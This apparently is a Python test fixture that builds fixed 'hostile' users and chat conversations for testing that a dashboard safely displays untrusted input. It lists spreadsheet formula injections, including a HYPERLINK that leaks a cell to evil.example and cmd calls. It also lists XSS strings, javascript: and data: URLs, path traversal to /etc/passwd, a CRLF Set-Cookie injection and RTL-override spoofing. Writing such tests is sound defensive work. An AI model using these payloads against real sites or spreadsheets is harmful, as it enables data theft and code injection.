"""A hostile platform: a few dozen users whose every field is an attack on the dashboard.

``SandboxData.build(..., hostile=True)`` serves these users before the seeded ones (the
seeded ones stay exactly as they are without them). Their ids, names, phones, e-mails,
attribute names and values, and every part of their conversations (texts, agent names,
button options, image and file URLs, template names, broadcast ids, feedback comments,
message ids and types) carry:

- spreadsheet formulas (``=HYPERLINK(...)``, ``+cmd|...``, ``-2+3``, ``@SUM(...)``, a
  leading tab or carriage return);
- markup and script (``<script>``, ``"><img onerror=...>``, ``</td>``, template tags);
- ``javascript:``, ``data:`` and ``vbscript:`` URLs, in odd spellings;
- dot segments (``.``, ``..``, ``../x``, ``%2e%2e``);
- NUL and other control characters, line and paragraph separators;
- 10 KB strings;
- an RTL override (U+202E), zero-width and combining characters, astral characters,
  noncharacters and half an emoji (a lone surrogate, sent as JSON's ``\\ud83d``);
- values of the wrong JSON type (numbers, lists, objects, null).

A script that runs sets ``window.__hostile`` (:data:`MARKER`): a browser test checks it
stays unset. Everything is fixed: no RNG, no clock.
"""

from __future__ import annotations

from typing import Any

__all__ = [
    "HOSTILE_ATTRIBUTE",
    "HOSTILE_PAYLOADS",
    "HOSTILE_USER_COUNT",
    "HOSTILE_VALUE",
    "MARKER",
    "hostile_conversation",
    "hostile_users",
]

#: What an injected script would set on ``window``.
MARKER = "__hostile"
_JS = f"window.{MARKER}=1"

FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
)
MARKUP: tuple[str, ...] = (
    f"<script>{_JS}</script>",
    f'"><img src=x onerror="{_JS}">',
    f"'><svg onload={_JS}>",
    f"</td></tr></table><script>{_JS}</script>",
    f"</textarea></title></style><script>{_JS}</script>",
    f'<a href="javascript:{_JS}">click</a>',
    f"<iframe srcdoc='<script>{_JS}</script>'></iframe>",
    "{{ request }}{% debug %}",
    "<!--",
)
URLS: tuple[str, ...] = (
    f"javascript:{_JS}",
    f"JaVaScRiPt:{_JS}",
    f" \tjavascript:{_JS}",
    f"java\nscript:{_JS}",
    f"data:text/html,<script>{_JS}</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "vbscript:msgbox(1)",
    "//evil.example/x.png",
    f'https://evil.example/"><script>{_JS}</script>',
)
DOTS: tuple[str, ...] = (
    ".",
    "..",
    "../x",
    "../../etc/passwd",
    "%2e%2e",
    "%2e%2e%2fadmin",
    "..%2f..%2f",
    "..\\..\\x",
    "/./",
)
CONTROLS: tuple[str, ...] = (
    "\x00",
    "a\x00b",
    "\x01\x02\x1b[31mred\x1b[0m",
    "line\nbreak",
    "carriage\rreturn",
    "tab\there",
    "\x7f\x85",
    "\u2028\u2029",
)
UNICODE: tuple[str, ...] = (
    "\u202egpj.exe",  # shows as "exe.jpg"
    "admin\u202e\u2066x\u2069",
    "\u200b\u200d\ufeff",
    "e\u0301\u0301\u0301\u0301",
    "\U0001d573\U0001d594 \U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\ud83d",  # half an emoji: a lone surrogate
    "\ufffe\uffff\U0010ffff",
    "\uff1d1+1",  # a full-width equals sign: text, not a formula
)
LONG: tuple[str, ...] = (
    "A" * 10_240,
    f"<script>{_JS}</script>" * 300,
    "=" + "1+" * 5_120 + "1",
)

#: Every hostile string, in a fixed order.
HOSTILE_PAYLOADS: tuple[str, ...] = (
    *FORMULAS,
    *MARKUP,
    *URLS,
    *DOTS,
    *CONTROLS,
    *UNICODE,
    *LONG,
)

#: An attribute every hostile user has, with the same value: a filter that finds them all.
HOSTILE_ATTRIBUTE = f"<img src=x onerror={_JS}>"
HOSTILE_VALUE = FORMULAS[0]

_IDS: tuple[str, ...] = (
    MARKUP[0],
    MARKUP[1],
    FORMULAS[0],
    FORMULAS[1],
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
    "\t=1+1",
    URLS[0],
    URLS[4],
    ".",
    "..",
    "../x",
    "%2e%2e",
    "..%2f..%2fadmin",
    "a\x00b",
    "line\nbreak",
    "\u202egpj.exe",
    "a/b?c#d&e=f",
    " spaced ",
    "\ud83d",
    UNICODE[4],
    LONG[0],
)
HOSTILE_USER_COUNT = 36

_PHONES: tuple[str, ...] = (
    "=1+1",
    f"+1<script>{_JS}</script>",
    URLS[0],
    "-2+3",
    "+99977\u202e0001",
    "",
)
_EMAILS: tuple[str | None, ...] = (
    f'"><script>{_JS}</script>@evil.example',
    "=cmd|' /C calc'!A0@evil.example",
    f"javascript:{_JS}//@evil.example",
    None,
    "a\x00b@evil.example",
    "\u202emoc.elpmaxe@evil",
)
#: Ratings that are not "1".."5" (most hostile users rate "1" or "2", so the quick
#: filters find them).
_ODD_RATINGS: dict[int, str] = {7: "=1", 15: "1\x00", 23: "\u0661", 31: f"5<script>{_JS}</script>"}
_ODD_VALUES: tuple[Any, ...] = (["=1+1", "<b>x</b>"], {MARKUP[0]: None}, 3.5, None, True)
_FEEDBACK_RATINGS: tuple[Any, ...] = (1, "2", MARKUP[0], 10**30, -1, "\u0661", 1.5, None)
_MESSAGE_IDS: tuple[str, ...] = (
    MARKUP[0],
    '" onmouseover="window.__hostile=1',
    "../x",
    "=1+1",
    "a\x00b",
    "m-1\r\nSet-Cookie: hostile=1",
    "%2e%2e",
    "\u202e1-m",
    "A" * 10_240,
    "",
    "\ud83d",
)

DAY_MS = 86_400_000


def _payload(index: int) -> str:
    return HOSTILE_PAYLOADS[index % len(HOSTILE_PAYLOADS)]


def _user(index: int, reference_ms: int) -> dict[str, Any]:
    user_id = _IDS[index] if index < len(_IDS) else f"hostile-{index:02d}"
    web = index % 5 == 4
    if web:
        channel, phone = "web", None
    else:
        channel = "whatsapp"
        phone = _PHONES[index // 4 % len(_PHONES)] if index % 4 == 3 else f"+99977000{index:04d}"
    if index == 9:
        channel = MARKUP[0]
    name: Any = _payload(index)
    if index == 13:
        name = None
    elif index == 17:
        name = 12345
    attributes: dict[str, Any] = {
        "feedback": _ODD_RATINGS.get(index, "1" if index % 2 == 0 else "2"),
        HOSTILE_ATTRIBUTE: HOSTILE_VALUE,
        _payload(index + 1): _payload(index + 2),
        _payload(index + 3): _ODD_VALUES[index % len(_ODD_VALUES)],
    }
    last_active = reference_ms - (index + 1) * DAY_MS
    return {
        "user_id": user_id,
        "name": name,
        "channel": channel,
        "phone_no": phone,
        "email": _EMAILS[index % len(_EMAILS)],
        "created_at": last_active - 30 * DAY_MS,
        "last_active_at": last_active,
        "attributes": attributes,
    }


def hostile_users(reference_ms: int) -> list[dict[str, Any]]:
    """The hostile users, in a fixed order, last active on the days before ``reference_ms``
    (fresh dicts each call)."""
    return [_user(index, reference_ms) for index in range(HOSTILE_USER_COUNT)]


def _message(
    sender: str,
    kind: str,
    text: Any,
    *,
    agent: Any = None,
    payload: Any = None,
    file: Any = None,
) -> dict[str, Any]:
    message = {
        "message_id": "",
        "timestamp": 0,
        "sender": sender,
        "type": kind,
        "text": text,
        "agent_name": agent,
        "payload": payload,
    }
    if file is not None:
        message["file"] = file
    return message


def hostile_conversation(user: dict[str, Any], index: int) -> list[dict[str, Any]]:
    """The conversation of hostile user number ``index``: every message type with hostile
    parts, one FEEDBACK (whose id is hostile too), and enough filler for two pages at 25."""

    def p(k: int) -> str:
        return _payload(index + k)

    rating = _FEEDBACK_RATINGS[index % len(_FEEDBACK_RATINGS)]
    messages = [
        _message("USER", "TEXT", p(0)),
        _message("USER", "TEXT", user["name"] if isinstance(user["name"], str) else p(1)),
        _message(
            "BOT",
            "BUTTONS",
            p(2),
            payload={"options": [p(3), p(4), None, 7, {"x": p(5)}, LONG[0]]},
        ),
        _message("AGENT", "TEXT", p(6), agent=p(7)),
        _message("agent", "TEXT", p(8), agent=MARKUP[index % len(MARKUP)]),
        _message("USER", "IMAGE", p(9), payload={"url": URLS[index % len(URLS)]}),
        _message("USER", "IMAGE", None, payload={"url": URLS[-1]}),
        _message(
            "USER",
            "DOCUMENT",
            p(10),
            file={"url": URLS[(index + 1) % len(URLS)], "mimeType": MARKUP[1]},
        ),
        _message("USER", "VIDEO", None, file={"url": f"https://evil.example/{p(11)}"}),
        _message(
            "BOT",
            "TEMPLATE",
            p(13),
            payload={
                "template_name": p(14),
                "broadcast_id": p(15),
                "language": p(16),
                "parameters": [p(17), None],
            },
        ),
        _message("BOT", "EVENT", p(18)),
        _message("BOT", "AGENT_PARTICIPATION_STATUS", None),
        _message("bot", p(19), p(20)),  # an unknown type, named like an attack
        _message("USER", "OPTIONS", p(21), payload={"options": [p(22)]}),
        _message("USER", "TEXT", {"text": p(23)}),
        _message("USER", "FILE_RECEIVED", None, payload={"url": URLS[(index + 2) % len(URLS)]}),
        _message("USER", "FEEDBACK", None, payload={"rating": rating, "comment": p(24)}),
    ]
    messages += [_message("USER", "TEXT", p(25 + k)) for k in range(12)]
    feedback = next(i for i, m in enumerate(messages) if m["type"] == "FEEDBACK")
    start = user["last_active_at"] - (len(messages) - 1) * 60_000
    for position, message in enumerate(messages):
        message["timestamp"] = start + position * 60_000
        message["message_id"] = _message_id(index, position, feedback)
    return messages


def _message_id(index: int, position: int, feedback: int) -> str:
    """The FEEDBACK message gets a hostile id (a different one for each user); a few
    others get hostile or duplicate ids; the rest ``m-NNNNNN``."""
    if position == feedback:
        return _MESSAGE_IDS[index % len(_MESSAGE_IDS)]
    if position in (0, 1):
        return "m-duplicate"
    if position < 8:
        return _MESSAGE_IDS[(index + position) % len(_MESSAGE_IDS)]
    return f"m-{position + 1:06d}"
